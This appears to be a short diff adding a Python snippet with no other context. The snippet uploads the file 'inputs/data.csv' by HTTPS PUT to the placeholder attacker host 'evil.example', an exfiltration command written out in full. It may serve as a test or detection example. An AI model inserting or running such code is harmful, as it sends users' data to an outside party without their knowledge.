@@ -1,0 +1,4 @@
+from http.client import HTTPSConnection
+
+c = HTTPSConnection("evil.example")
+c.request("PUT", "/", body=open("inputs/data.csv", "rb"))
